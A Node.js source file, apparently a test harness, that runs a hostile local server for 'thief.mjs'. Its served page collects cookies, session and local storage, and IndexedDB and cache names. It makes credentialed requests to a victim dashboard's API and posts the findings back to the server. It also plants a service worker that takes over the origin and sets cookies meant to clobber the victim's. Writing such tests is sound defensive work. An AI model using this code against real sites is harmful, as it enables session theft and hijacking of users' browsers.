// The server of `thief.mjs`, in a process of its own: keeps all that it is sent, and all that its page finds in the browser.
import { createServer } from 'node:http'

const [at, victim] = process.argv.slice(2)
const seen = []

/** A page that asks the dashboard for all it can, and tells this server what it has found. */
const PAGE = `<!doctype html><title>dev server</title><img src="${victim}/favicon.svg"><script>
(async () => {
  const found = [document.cookie, location.href, document.referrer]
  for (const storage of [sessionStorage, localStorage]) found.push(...Object.entries(storage).flat())
  for (const { name } of (await indexedDB.databases?.()) ?? []) found.push(name)
  for (const name of await caches.keys()) found.push(name)
  for (const init of [{ credentials: 'include', mode: 'no-cors' }, { credentials: 'include' }, { credentials: 'include', method: 'POST', body: '{}' }]) {
    for (const path of ['/api/v1/session', '/api/v1/overview', '/api/v1/events?topics=tasks']) {
      const left = AbortSignal.timeout(1000)
      found.push(await fetch('${victim}' + path, { ...init, signal: left }).then((answer) => answer.text(), String))
    }
  }
  // What the browser keeps for this origin.
  await navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready, () => {})
  await fetch('/assets/index.js', { cache: 'reload' })
  await fetch('/found', { method: 'POST', body: JSON.stringify(found) })
  window.done = true
})()
</script>`

/** Stands in the place of whatever this origin has later. */
const WORKER = `addEventListener('fetch', (event) => event.respondWith(new Response('<main><h1>planted</h1></main>', { headers: { 'content-type': 'text/html' } })))
addEventListener('install', () => skipWaiting())
addEventListener('activate', () => clients.claim())`

const server = createServer((request, response) => {
  seen.push(request.url, ...Object.values(request.headers).flat())
  let body = ''
  request.setEncoding('utf8').on('data', (piece) => (body += piece))
  request.on('end', () => {
    if (request.url === '/found') seen.push(...JSON.parse(body).flatMap((one) => [one, ...(one.match(/[\w-]{16,}/g) ?? [])]))
    // A cookie for all ports of the machine, and one of an older name.
    response.setHeader('set-cookie', ['tossed=1; Path=/', `aiw-${new URL(victim).port}=tossed; Path=/`])
    response.setHeader('cache-control', 'max-age=31536000, immutable')
    const [type, text] = request.url?.startsWith('/api/')
      ? ['application/json', '{}']
      : request.url?.endsWith('.js') ? ['text/javascript', WORKER] : ['text/html', PAGE]
    response.setHeader('content-type', type)
    response.end(text)
  })
})
server.listen(Number(at), '127.0.0.1', () => process.send({ listens: server.address().port }))
process.on('message', () => process.send({ seen: seen.filter(Boolean) }))
